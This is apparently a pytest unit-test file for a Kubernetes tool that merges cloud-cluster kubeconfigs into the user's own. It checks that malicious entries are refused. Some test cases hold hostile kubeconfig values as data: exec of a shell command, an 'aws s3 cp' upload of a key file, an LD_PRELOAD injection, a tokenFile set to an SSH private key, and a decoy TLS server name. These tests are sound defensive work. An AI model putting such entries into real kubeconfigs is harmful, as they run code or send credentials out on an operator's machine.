"""Merging a cluster's kubeconfig into the user's."""

from __future__ import annotations

import base64
import json
import shutil
from pathlib import Path
from types import SimpleNamespace
from typing import Any, cast

import pytest
import typer

from k8s_ucp.cli.command import Invocation
from k8s_ucp.cli.inspection.kubeconfig import _cluster, _from_cloud, app, checked, renamed
from k8s_ucp.cli.topology_selection import remember
from k8s_ucp.clusters.user_contexts import merged
from k8s_ucp.context import TopologyView
from k8s_ucp.errors import UcpError, UsageError
from k8s_ucp.kube import Kind, Kube, NotFound, Object, Unreachable
from k8s_ucp.reconciler.access.owners import source_in
from k8s_ucp.reconciler.access.sources import kubeconfig_in
from k8s_ucp.topology import default
from k8s_ucp.topology.text import topology_text
from k8s_ucp.workspace import Workspace
from tests.unit.reconciler.objects import AUTHORITY, kubeconfig_secret

CONFIG = {
    "clusters": [{"name": "x", "cluster": {"server": "https://127.0.0.1:1"}}],
    "users": [{"name": "y", "user": {"token": "t"}}],
    "contexts": [{"name": "z", "context": {"cluster": "x", "user": "y"}}],
}


def test_merging_a_kubeconfig_twice_changes_nothing() -> None:
    base = {"clusters": [{"name": "mine"}], "contexts": None, "extensions": [1]}
    once = merged(base, renamed(CONFIG, "demo-core"))
    assert merged(once, renamed(CONFIG, "demo-core")) == once
    assert [each["name"] for each in once["clusters"]] == ["mine", "demo-core"]
    assert once["contexts"] == [
        {"name": "demo-core", "context": {"cluster": "demo-core", "user": "demo-core"}}
    ]
    assert once["current-context"] == "demo-core"
    assert once["extensions"] == [1]


def test_copy_of_a_workspace_has_no_kubeconfig_of_the_originals_clusters(tmp_path: Path) -> None:
    original = Workspace.at(tmp_path / "original")
    original.settle_identity()
    remember(original, "demo", topology_text(default("demo")))
    copy = shutil.copytree(original.root, tmp_path / "copy")
    command = typer.main.get_command(app)
    with pytest.raises(UcpError, match="is a copy of") as caught:
        command.main(["core"], obj=Invocation(copy), standalone_mode=False)
    assert f"--workspace {original.root}" in (caught.value.next or "")


def of_a_cloud(user: dict[str, Any], **cluster: Any) -> bytes:
    """A kubeconfig as it is in a Secret of the core cluster."""
    config = {
        "clusters": [{"name": "x", "cluster": {"server": "https://10.0.0.1", **cluster}}],
        "users": [{"name": "x", "user": user}],
        "contexts": [{"name": "x", "context": {"cluster": "x", "user": "x"}}],
        "current-context": "x",
    }
    return json.dumps(config).encode()


PLUGIN = {"apiVersion": "client.authentication.k8s.io/v1", "command": "gke-gcloud-auth-plugin"}


@pytest.mark.parametrize("user", [{"token": "t"}, {"client-key-data": "eA=="}])
def test_kubeconfig_of_a_cloud_is_passed_on(user: dict[str, Any]) -> None:
    found = renamed(checked(of_a_cloud(user), "stage", None), "demo-stage")
    assert found["users"] == [{"name": "demo-stage", "user": user}]
    assert found["clusters"][0]["cluster"] == {"server": "https://10.0.0.1"}


def of_google(endpoint: str | None = "10.0.0.1") -> Object:
    """A cluster of Crossplane's provider. endpoint: as in its status."""
    authority = {"clusterCaCertificate": AUTHORITY}
    told = {"endpoint": endpoint, "masterAuth": authority} if endpoint else {}
    return {
        "apiVersion": "container.gcp.m.upbound.io/v1beta1",
        "kind": "Cluster",
        "metadata": {"name": "demo-stage", "namespace": "ucp-clusters", "uid": "1"},
        "spec": {"writeConnectionSecretToRef": {"name": "demo-stage-kubeconfig"}},
        "status": {"atProvider": told},
    }


class Core:
    """A core cluster with one cluster object."""

    def __init__(self, item: Object) -> None:
        self._item = item

    def kind_of(self, api_version: str, kind: str) -> Kind:
        return Kind(api_version, kind, f"{kind.lower()}s")

    def get(self, kind: Kind, name: str, namespace: str | None = None) -> Object:
        about = self._item["metadata"]
        if (kind.kind, name, namespace) != ("Cluster", about["name"], about["namespace"]):
            raise NotFound(f'{kind.plural} "{name}" not found', status=404)
        return self._item


def passed_on(
    owner: Object, user: dict[str, Any], *, names: Object | None = None, **cluster: Any
) -> dict[str, Any]:
    """The result for a Secret of that owner. names: what its ownerReference names instead."""
    content = of_a_cloud(user, **cluster)
    secret = kubeconfig_secret(names or owner, json.loads(content))
    return checked(content, "stage", source_in(cast(Kube, Core(owner)), secret))


@pytest.mark.parametrize("user", [{"token": "t"}, {"exec": PLUGIN}])
def test_the_server_of_a_clouds_kubeconfig_is_that_of_the_owners_status(
    user: dict[str, Any],
) -> None:
    found = passed_on(of_google(), user, **{"tls-server-name": "evil.example.org"})
    assert found["users"] == [{"user": user}]
    assert found["clusters"][0]["cluster"] == {
        "server": "https://10.0.0.1",
        "certificate-authority-data": AUTHORITY,
    }


@pytest.mark.parametrize("user", [{"token": "t"}, {"exec": PLUGIN}])
def test_a_clouds_kubeconfig_with_another_server_is_refused(user: dict[str, Any]) -> None:
    """kubectl would send the user's own token of the cloud to that server."""
    with pytest.raises(UcpError, match=r"refers to https://10\.6\.6\.6, but the owner's status"):
        passed_on(of_google(), user, server="https://10.6.6.6")


def test_a_plugin_is_refused_unless_a_cluster_object_vouches_for_the_server() -> None:
    other = of_google()
    other["metadata"] = {**other["metadata"], "uid": "2"}
    with pytest.raises(
        UcpError, match=r"your own token to https://10\.0\.0\.1, but no cluster obj"
    ):
        passed_on(of_google(), {"exec": PLUGIN}, names=other)
    with pytest.raises(UcpError, match="does not have the cluster's endpoint yet"):
        passed_on(of_google(None), {"exec": PLUGIN})
    with pytest.raises(UcpError, match="no cluster object vouches for it"):
        checked(of_a_cloud({"exec": PLUGIN}), "stage", None)


@pytest.mark.parametrize(
    ("user", "cluster"),
    [
        ({"exec": {"command": "sh", "args": ["-c", "id"]}}, {}),
        ({"exec": {**PLUGIN, "command": "/tmp/gke-gcloud-auth-plugin"}}, {}),
        ({"exec": {"command": "aws", "args": ["s3", "cp", "/home/me/key", "s3://x"]}}, {}),
        ({"exec": {**PLUGIN, "env": [{"name": "LD_PRELOAD", "value": "/tmp/x"}]}}, {}),
        ({"exec": "sh"}, {}),
        ({"auth-provider": {"name": "gcp", "config": {"cmd-path": "/bin/sh"}}}, {}),
        ({"tokenFile": "/home/me/.ssh/id_ed25519"}, {}),
        ({"token": "t"}, {"insecure-skip-tls-verify": True}),
        ({"token": "t"}, {"proxy-url": "http://10.0.0.2"}),
    ],
)
def test_kubeconfig_with_programs_or_files_is_refused(
    user: dict[str, Any], cluster: dict[str, Any]
) -> None:
    """Whoever may write Secrets of the core would run programs on the machine of its operator."""
    with pytest.raises(UcpError, match="could run programs or read files on this machine"):
        checked(of_a_cloud(user, **cluster), "stage", None)


@pytest.mark.parametrize("key", ["kubeconfig", "attribute.kube_config.0.raw_config"])
def test_the_kubeconfig_of_every_cloud_is_found(key: str) -> None:
    """DigitalOcean's provider writes it under another key."""
    assert kubeconfig_in({"data": {key: base64.b64encode(b"text").decode()}}) == b"text"
    assert kubeconfig_in({"data": {}}) == b""


@pytest.mark.parametrize("name", ["stage", "demo-stage"])
def test_the_cluster_of_a_stopped_environment_is_recreated_first(name: str) -> None:
    provider = SimpleNamespace(names=lambda: ["demo-core", "demo-prod"])
    topology = default("demo", ["stage", "prod"], [])
    context = cast(
        TopologyView, SimpleNamespace(topology=topology, providers={"embedded": provider})
    )
    assert _cluster(context, "prod") == "demo-prod"
    with pytest.raises(UsageError, match="the cluster of stage does not exist") as refused:
        _cluster(context, name)
    assert "ucp recreate --env stage" in (refused.value.next or "")


def test_the_kubeconfig_of_a_cloud_cluster_needs_a_running_core() -> None:
    """It said that a request was refused, and not what to do."""

    def refused(_: str) -> None:
        raise Unreachable("https://127.0.0.1:1 is not responding")

    context = SimpleNamespace(
        cloud_secret=refused, core_silence=lambda: "the core cluster demo-core is stopped"
    )
    with pytest.raises(UcpError, match="the core cluster demo-core is stopped") as caught:
        _from_cloud(cast(TopologyView, context), "stage")
    assert caught.value.next == "ucp start"
